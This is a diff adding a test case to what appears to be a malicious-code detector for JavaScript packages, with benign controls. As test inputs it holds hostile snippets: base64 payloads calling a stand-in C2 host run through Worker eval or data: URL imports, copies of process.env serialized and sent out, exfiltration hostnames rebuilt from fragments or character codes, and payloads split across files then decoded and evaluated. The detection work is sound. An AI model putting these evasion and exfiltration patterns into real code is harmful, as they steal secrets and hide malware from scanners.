@@ -425,3 +425,37 @@ test('independent review 2: downloads returned by a helper (Promise resolve, asy
   // Control: a helper returning a constant template.
   assert.ok(!sig("function tpl() { return 'return 1'; }\nFunction(tpl())();").includes('eval/eval-downloaded'));
 });
+
+test('independent review 2: Worker eval, data: URL imports, environment copies, hosts folded from pieces, payloads split across files', () => {
+  const sig = (source: string, module = false) => caps(analyzeSource(source, { module }));
+  const b64 = Buffer.from("require('https').get('https://c2.example.invalid/')").toString('base64');
+  assert.ok(sig(`const { Worker } = require('worker_threads');\nnew Worker(atob('${b64}'), { eval: true });`).includes('eval/decoded-exec'));
+  assert.ok(sig(`const { Worker } = require('worker_threads');\nnew Worker(code, { eval: true });`).includes('eval'));
+  assert.ok(sig(`await import('data:text/javascript;base64,' + '${b64}');`, true).includes('eval/decoded-exec'));
+  assert.ok(sig("import('node:https').then((h) => h.get('https://c2.example.invalid/'));", true).includes('network'));
+  // Controls: a worker from a file; a feature probe that imports an empty data: URL.
+  assert.deepEqual(sig("const { Worker } = require('worker_threads');\nnew Worker(__dirname + '/task.js', { eval: false });"), []);
+  assert.ok(!sig("import('data:text/javascript;base64,Cg==');", true).includes('eval/decoded-exec'));
+
+  assert.ok(sig('const e = Object.assign({}, process.env);\nsend(JSON.stringify(e));').includes('env/env-serialize'));
+  assert.ok(sig('const e = { ...process.env };\nconst f = e;\nsend(JSON.stringify(f));').includes('env/env-serialize'));
+  assert.ok(sig('const s = {};\nObject.assign(s, process.env);\nsend(Buffer.from(JSON.stringify(s)));').includes('env/env-serialize'));
+  // Control: a copy handed to a child process; setting a variable on a copy is not setting it for the process.
+  assert.ok(!sig("const env = { ...process.env, X: '1' };\nrequire('child_process').spawn('x', { env });").includes('env/env-serialize'));
+  assert.deepEqual(analyzeSource("const env = Object.assign({}, process.env);\nenv.NODE_TLS_REJECT_UNAUTHORIZED = '0';").hooks, []);
+
+  const host = (source: string) => sig(source).includes('network/known-endpoint');
+  assert.ok(host("let h = '';\nfor (const p of ['web', 'hook', '.si', 'te']) h += p;\nfetch('https://' + h + '/x');"));
+  assert.ok(host("const h = [119,101,98,104,111,111,107,46,115,105,116,101].map((c) => String.fromCharCode(c)).join('');\nfetch('https://' + h);"));
+  assert.ok(host("const h = [119,101,98,104,111,111,107,46,115,105,116,101].reduce((s, c) => s + String.fromCharCode(c), '');\nfetch(`https://${h}/`);"));
+  assert.ok(host("const t = [112,105,112,101,100,114,101,97,109,46,110,101,116];\nlet h = '';\nfor (const c of t) h += String.fromCharCode(c);\nfetch(h);"));
+  // Controls: pieces that only contain a name, no request; a name inside one longer word.
+  assert.ok(!host("const parts = ['web', 'hook', '.si', 'te'];\nconsole.log(parts);"));
+  assert.ok(!host("const a = ['notweb', 'hook.site'];\nfetch(url);"));
+
+  assert.ok(sig("const parts = [require('./a'), require('./b')];\neval(Buffer.from(parts.join(''), 'base64').toString());").includes('eval/decoded-exec'));
+  assert.ok(sig("const fs = require('fs');\nnew Function(atob(fs.readFileSync(__dirname + '/x.txt', 'utf8')))();").includes('eval/decoded-exec'));
+  // Controls: a sibling file evaluated as it is (old-style loaders); decoded pieces compiled as WebAssembly.
+  assert.ok(!sig("const fs = require('fs');\nrequire('vm').runInThisContext(fs.readFileSync(__dirname + '/lib.js', 'utf8'));").includes('eval/decoded-exec'));
+  assert.ok(!sig("WebAssembly.compile(Buffer.from(require('./a') + require('./b'), 'base64'));").includes('eval/decoded-exec'));
+});
